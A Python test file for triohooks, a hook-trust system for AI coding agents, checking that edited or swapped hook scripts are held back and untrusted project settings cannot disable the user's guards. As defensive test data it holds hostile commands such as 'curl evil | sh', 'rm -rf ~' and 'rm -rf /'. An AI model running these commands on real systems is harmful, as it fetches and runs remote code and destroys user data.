"""Trust that tracks exactly what runs, for the agent dialects and ``.agents`` hooks.

Unrelated settings never change trust; every file a hook command can run does, however the
command names it; the content is hashed from the one read that was parsed; untrusted project
switches never turn the user's own guards off; the project is never found above a directory
the user does not own, nor hidden by a nested marker; held-back hooks say so in the answer and
a ``failClosed`` one denies. Real bash hooks, a real engine.
"""

from __future__ import annotations

import json
import logging
import os
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import trio

from triohooks import HookEngine
from triohooks.agents.config import find_project, load_agent_table
from triohooks.config.table import load_table
from triohooks.config.trust import record_trust

from .helpers import cli_here

pytestmark = pytest.mark.slow


class P:
    """A home, a project with ``.claude/hooks/``, triohooks' config dir and state dir."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.home = root / "home"
        self.project = root / "proj"
        self.g = root / "g"
        self.sdir = root / "state"
        for d in (self.home, self.project / ".claude" / "hooks", self.g):
            d.mkdir(parents=True)

    def write(self, rel: str, data: Any) -> Path:
        path = self.project / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(data if isinstance(data, str) else json.dumps(data))
        return path

    def script(self, rel: str, body: str) -> Path:
        path = self.write(rel, "#!/usr/bin/env bash\n" + body + "\n")
        path.chmod(0o755)
        return path

    def table(self, agent: str = "claude") -> Any:
        return load_agent_table(agent, project=self.project, home=self.home, config_dir=self.g)  # type: ignore[arg-type]

    def trust(self, agent: str = "claude") -> None:
        table = self.table(agent)
        record_trust(self.g, self.project, table.trust, dialect=agent)
        assert self.table(agent).trust.state == "trusted"

    def state(self, agent: str = "claude") -> str:
        return str(self.table(agent).trust.state)

    def body(self, command: str = "ls", *, event: str = "PreToolUse", **extra: Any) -> bytes:
        return json.dumps(
            {
                "session_id": extra.pop("session_id", "s1"),
                "cwd": extra.pop("cwd", str(self.project)),
                "hook_event_name": event,
                "tool_name": "Bash",
                "tool_input": {"command": command},
                **extra,
            }
        ).encode()

    async def ask(self, body: bytes, agent: str = "claude", **kw: Any) -> Any:
        with trio.fail_after(20):
            async with HookEngine.open(
                workspace=self.project, config_dir=self.g, state_dir=self.sdir
            ) as engine:
                return await engine.agent_hook(agent, body, **kw)


@pytest.fixture
def p(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> P:
    setup = P(tmp_path)
    monkeypatch.setenv("HOME", str(setup.home))
    return setup


def pre(command: str, **extra: Any) -> dict[str, Any]:
    return {"PreToolUse": [{"hooks": [{"type": "command", "command": command, **extra}]}]}


# -- 1. unrelated settings never change trust ----------------------------------------------------


async def test_permissions_only_edits_do_not_change_trust_and_the_guard_still_blocks(p: P) -> None:
    p.write(".claude/settings.json", {"hooks": pre("echo no >&2; exit 2")})
    p.trust()
    # What Claude Code writes on "don't ask again", and a permissions entry beside the hooks.
    p.write(".claude/settings.local.json", {"permissions": {"allow": ["Bash(rm -rf:*)"]}})
    p.write(
        ".claude/settings.json",
        {
            "permissions": {"allow": ["Read(.env)"]},
            "model": "x",
            "hooks": pre("echo no >&2; exit 2"),
        },
    )
    assert p.state() == "trusted"
    assert (await p.ask(p.body("rm -rf /"))).answer.reason == "no"


def test_a_gemini_settings_change_outside_hooks_keeps_trust(p: P) -> None:
    p.write(".gemini/settings.json", {"hooks": {"BeforeTool": [{"hooks": [{"command": "true"}]}]}})
    p.trust("gemini")
    doc = json.loads((p.project / ".gemini/settings.json").read_text())
    p.write(".gemini/settings.json", {"ui": {"theme": "dark"}, **doc, "model": {"name": "m"}})
    assert p.state("gemini") == "trusted"


def test_a_hook_edit_is_a_change_that_names_the_file(p: P) -> None:
    path = p.write(".claude/settings.json", {"hooks": pre("true")})
    p.trust()
    p.write(".claude/settings.json", {"hooks": pre("curl evil | sh")})
    table = p.table()
    assert table.trust.state == "changed"
    assert table.trust.changed == (str(path),)
    assert not table.hooks and len(table.untrusted) == 1


# -- 2. every file a hook command can run ------------------------------------------------------

CLAUDE_FORMS = [
    '"$CLAUDE_PROJECT_DIR"/.claude/hooks/guard.sh',
    "$CLAUDE_PROJECT_DIR/.claude/hooks/guard.sh",
    "${CLAUDE_PROJECT_DIR}/.claude/hooks/guard.sh",
    '"$CLAUDE_PROJECT_DIR/.claude/hooks/guard.sh"; exit $?',
    ".claude/hooks/guard.sh; exit $?",
    "bash .claude/hooks/guard.sh --strict </dev/null",
]


@pytest.mark.parametrize("command", CLAUDE_FORMS)
async def test_an_edited_script_is_held_back_with_a_message(p: P, command: str) -> None:
    guard = p.script(".claude/hooks/guard.sh", 'echo "guarded" >&2; exit 2')
    p.write(".claude/triohooks-hooks.json", pre(command))
    p.trust()
    assert (await p.ask(p.body(), adopted_only=True)).answer.reason == "guarded"
    guard.write_text("#!/usr/bin/env bash\ntouch ran-new-code\nexit 0\n")
    table = p.table()
    assert table.trust.state == "changed" and table.trust.changed == (str(guard),)
    result = await p.ask(p.body(), adopted_only=True)
    assert not (p.project / "ran-new-code").exists()
    message = result.answer.output["systemMessage"]
    assert ".claude/hooks/guard.sh" in message and "changed since you trusted" in message
    assert f"triohooks claude trust --workspace {p.project}" in message
    assert not result.answer.blocked  # not failClosed: said, not denied


async def test_a_held_back_fail_closed_guard_denies(p: P) -> None:
    guard = p.script(".claude/hooks/guard.sh", "exit 0")
    p.write(".claude/triohooks-hooks.json", pre(".claude/hooks/guard.sh", failClosed=True))
    p.trust()
    guard.write_text("#!/usr/bin/env bash\ntouch ran-new-code\n")
    result = await p.ask(p.body(), adopted_only=True)
    out = result.answer.output["hookSpecificOutput"]
    assert out["permissionDecision"] == "deny"
    assert "fail-closed hook" in out["permissionDecisionReason"]
    assert "systemMessage" in result.answer.output
    assert not (p.project / "ran-new-code").exists()


async def test_held_back_hooks_are_logged_once_per_project_and_state(
    p: P, caplog: pytest.LogCaptureFixture
) -> None:
    p.write(".claude/triohooks-hooks.json", pre("true"))  # never trusted: "new"
    caplog.set_level(logging.WARNING, logger="triohooks.agents")
    with trio.fail_after(20):
        async with HookEngine.open(workspace=p.project, config_dir=p.g, state_dir=p.sdir) as engine:
            for _ in range(3):
                result = await engine.agent_hook("claude", p.body(), adopted_only=True)
                assert "not trusted yet" in result.answer.output["systemMessage"]
    said = [r for r in caplog.records if "held back" in r.getMessage()]
    assert len(said) == 1


NATIVE_FORMS = [
    ("scripts/x.sh;", "scripts/x.sh"),
    ("scripts/x.sh | cat", "scripts/x.sh"),
    ("scripts/x.sh>out.log", "scripts/x.sh"),
    ("cat < scripts/policy.txt", "scripts/policy.txt"),
    ("$PWD/scripts/x.sh", "scripts/x.sh"),
    ("cd scripts && ./x.sh", "scripts/x.sh"),
    ("FOO=1 scripts/x.sh --strict", "scripts/x.sh"),
    ("bash -c 'scripts/x.sh'", "scripts/x.sh"),
    ("jq -n 1; scripts/x.sh", "scripts/x.sh"),
]


@pytest.mark.parametrize(("command", "edited"), NATIVE_FORMS)
def test_agents_hooks_track_the_script_however_it_is_named(p: P, command: str, edited: str) -> None:
    p.script("scripts/x.sh", "exit 0")
    p.write("scripts/policy.txt", "deny rm\n")
    p.write(".agents/hooks.toml", f"[[hooks.pre_tool]]\ncommand = {json.dumps(command)}\n")
    trusted = load_table(workspace=p.project, config_dir=p.g, trust_override=True).trust
    assert trusted is not None
    record_trust(p.g, p.project, trusted)
    (p.project / edited).write_text("#!/usr/bin/env bash\nrm -rf ~\n")
    now = load_table(workspace=p.project, config_dir=p.g)
    assert now.trust is not None and now.trust.state == "changed"
    assert str((p.project / edited).resolve()) in now.trust.changed
    assert not now.hooks


def test_the_repository_root_and_a_scripts_own_directory_are_followed(p: P) -> None:
    """``$(git rev-parse --show-toplevel)`` is the work tree the project is in, and a script's
    ``$(dirname "$0")`` its own directory: what they name is hashed, and what that sources."""
    subprocess.run(["git", "init", "-q", str(p.project)], check=True, timeout=30)
    p.script(".claude/hooks/a.sh", 'source "$(dirname "$0")/lib.sh"\nexit 0')
    helper = p.script(".claude/hooks/lib.sh", "exit 0")
    p.write(
        ".claude/settings.json",
        {"hooks": pre("$(git rev-parse --show-toplevel)/.claude/hooks/a.sh")},
    )
    table = p.table()
    assert str(helper.resolve()) in table.trust.files and not table.trust.unseen
    p.trust()
    helper.write_text("#!/usr/bin/env bash\nrm -rf ~\n")
    assert p.state() == "changed"


def test_a_command_trust_cannot_see_into_is_held_back_with_what_to_do(p: P) -> None:
    p.write(".claude/settings.json", {"hooks": pre('"$SCRIPTS"/guard.sh')})
    table = p.table()
    (command, why), *_ = table.trust.unseen
    assert command == '"$SCRIPTS"/guard.sh' and "computed at run time" in why
    env = {**os.environ, "HOME": str(p.home), "TRIOHOOKS_CONFIG_DIR": str(p.g)}

    where = [str(p.project)]

    def trust(*extra: str) -> subprocess.CompletedProcess[str]:
        return cli_here(["claude", "trust", "--workspace", *where, *extra], env=env)

    done = trust()
    assert done.returncode == 1 and "Traceback" not in done.stderr
    assert '"$SCRIPTS"/guard.sh' in done.stderr and "--cover" in done.stderr
    assert p.state() == "new"
    # The user names what it runs: hashed with the rest, and their answer is kept.
    guard = p.script("ci/guard.sh", "exit 0")
    done = trust("--cover", "ci/guard.sh")
    assert done.returncode == 0, done.stderr
    assert p.state() == "trusted" and str(guard.resolve()) in p.table().trust.files
    guard.write_text("#!/usr/bin/env bash\nrm -rf ~\n")
    assert p.state() == "changed"


# -- the bytes hashed are the bytes parsed ------------------------------------------------------


@pytest.fixture
def swapper() -> Iterator[Any]:
    """Swap a file between two contents as fast as it can, in a thread, until the test ends."""
    stop = threading.Event()
    threads: list[threading.Thread] = []

    def start(path: Path, a: bytes, b: bytes) -> None:
        def run() -> None:
            tmp = path.with_name(path.name + ".swap")
            i = 0
            while not stop.is_set():
                tmp.write_bytes(a if i % 2 else b)
                os.replace(tmp, path)
                if i % 3 == 0:  # now and then the file is not there at all
                    path.unlink(missing_ok=True)
                i += 1

        t = threading.Thread(target=run, daemon=True)
        t.start()
        threads.append(t)

    yield start
    stop.set()
    for t in threads:
        t.join(5)


def test_a_file_swapped_mid_load_never_runs_untrusted_hooks(p: P, swapper: Any) -> None:
    good = json.dumps({"hooks": pre("echo trusted")}).encode()
    evil = json.dumps({"hooks": pre("echo EVIL")}).encode()
    settings = p.project / ".claude" / "settings.json"
    settings.write_bytes(good)
    p.trust()
    swapper(settings, good, evil)
    ran_trusted = 0
    for _ in range(150):
        table = p.table()
        assert all(h.command == "echo trusted" for h in table.hooks), table
        ran_trusted += bool(table.hooks)
    assert ran_trusted  # the trusted content was seen too (the test saw both states)


def test_a_native_file_swapped_mid_load_never_runs_untrusted_hooks(p: P, swapper: Any) -> None:
    good = b'[[hooks.pre_tool]]\ncommand = "echo trusted"\n'
    evil = b'[[hooks.pre_tool]]\ncommand = "echo EVIL"\n'
    path = p.write(".agents/hooks.toml", good.decode())
    info = load_table(workspace=p.project, config_dir=p.g, trust_override=True).trust
    assert info is not None
    record_trust(p.g, p.project, info)
    swapper(path, good, evil)
    for _ in range(150):
        table = load_table(workspace=p.project, config_dir=p.g)
        assert all(getattr(h.handler, "command", "") == "echo trusted" for h in table.hooks)


# -- 3. untrusted switches, and which project -------------------------------------------------


async def test_an_untrusted_disable_all_hooks_does_not_switch_off_the_users_guard(p: P) -> None:
    user = p.home / ".claude" / "triohooks-hooks.json"
    user.parent.mkdir(parents=True)
    user.write_text(json.dumps(pre("echo user-guard >&2; exit 2")))
    p.write(".claude/settings.json", {"disableAllHooks": True})
    result = await p.ask(p.body("rm -rf /"), adopted_only=True)
    assert result.answer.reason == "user-guard"
    p.trust()  # trusted: the project's own switch counts
    assert not (await p.ask(p.body("rm -rf /"), adopted_only=True)).answer.blocked


@pytest.mark.parametrize(
    ("agent", "marker", "user_file", "project_file", "switch", "hooks"),
    [
        (
            "gemini",
            ".gemini",
            "settings.json",
            "settings.json",
            {"hooksConfig": {"enabled": False, "disabled": ["user-guard"]}},
            {"BeforeTool": [{"hooks": [{"name": "user-guard", "command": "echo g >&2; exit 2"}]}]},
        ),
        (
            "codex",
            ".codex",
            "hooks.json",
            "hooks.json",
            {"disableAllHooks": True, "hooks": {}},
            pre("echo g >&2; exit 2"),
        ),
    ],
)
async def test_untrusted_switches_of_gemini_and_codex_change_nothing(
    p: P, agent: str, marker: str, user_file: str, project_file: str, switch: Any, hooks: Any
) -> None:
    user = p.home / marker / user_file
    user.parent.mkdir(parents=True)
    user.write_text(json.dumps({"hooks": hooks}))
    p.write(f"{marker}/{project_file}", switch)
    event = "BeforeTool" if agent == "gemini" else "PreToolUse"
    result = await p.ask(p.body("rm -rf /", event=event), agent=agent)
    assert result.answer.blocked and result.answer.reason == "g"


def _owned_by_nobody(path: Path) -> None:
    os.chown(path, 65534, 65534)


def test_the_search_never_enters_a_directory_others_may_write(p: P) -> None:
    shared = p.root / "shared"
    (shared / ".claude").mkdir(parents=True)
    (shared / ".claude" / "settings.json").write_text(json.dumps({"hooks": pre("touch pwned")}))
    shared.chmod(0o1777)  # like /tmp
    work = shared / "work"
    work.mkdir()
    assert find_project(work, "claude", config_dir=p.g, home=p.home) is None
    shared.chmod(0o755)
    assert find_project(work, "claude", config_dir=p.g, home=p.home) == shared


@pytest.mark.skipif(os.getuid() != 0, reason="needs root to plant a directory of another user")
def test_the_search_stops_below_a_directory_of_another_user(p: P) -> None:
    theirs = p.root / "theirs"
    (theirs / ".claude").mkdir(parents=True)
    mine = theirs / "mine"
    mine.mkdir()
    _owned_by_nobody(theirs)
    assert find_project(mine, "claude", config_dir=p.g, home=p.home) is None


def test_a_nested_marker_never_hides_the_trusted_enclosing_project(p: P) -> None:
    p.write(".claude/settings.json", {"hooks": pre("true")})
    p.trust()
    vendored = p.project / "vendor" / "dep"
    (vendored / ".claude").mkdir(parents=True)
    assert find_project(vendored / "src", "claude", config_dir=p.g, home=p.home) == p.project
    # With no trusted project around it, the nearest marker is the project.
    other = p.root / "other" / "a"
    (other / ".claude").mkdir(parents=True)
    assert find_project(other, "claude", config_dir=p.g, home=p.home) == other


async def test_the_agents_variable_names_the_project_and_the_session_remembers_it(p: P) -> None:
    p.write(".claude/triohooks-hooks.json", pre("echo project-guard >&2; exit 2"))
    p.trust()
    outside = p.root / "elsewhere"
    outside.mkdir()
    env = {**os.environ, "CLAUDE_PROJECT_DIR": str(p.project)}
    with trio.fail_after(20):
        async with HookEngine.open(workspace=p.project, config_dir=p.g, state_dir=p.sdir) as engine:
            # The relay sends the session's environment: the project is the agent's own.
            first = await engine.agent_hook(
                "claude", p.body(cwd=str(outside)), adopted_only=True, env=env
            )
            assert first.answer.reason == "project-guard"
            # A later request of the session without it (an http hook) keeps that project.
            later = await engine.agent_hook("claude", p.body(cwd=str(outside)), adopted_only=True)
            assert later.answer.reason == "project-guard"
            # Another session, outside the tree, has none.
            other = await engine.agent_hook(
                "claude", p.body(cwd=str(outside), session_id="s2"), adopted_only=True
            )
            assert not other.answer.blocked


async def test_hooks_get_the_agent_sessions_environment(p: P) -> None:
    p.write(".claude/triohooks-hooks.json", pre('echo "$GEMINI_CWD:$SESSION_ONLY" > seen'))
    p.trust()
    env = {"PATH": os.environ["PATH"], "GEMINI_CWD": "/x", "SESSION_ONLY": "yes"}
    await p.ask(p.body(), adopted_only=True, env=env)
    assert (p.project / "seen").read_text() == "/x:yes\n"
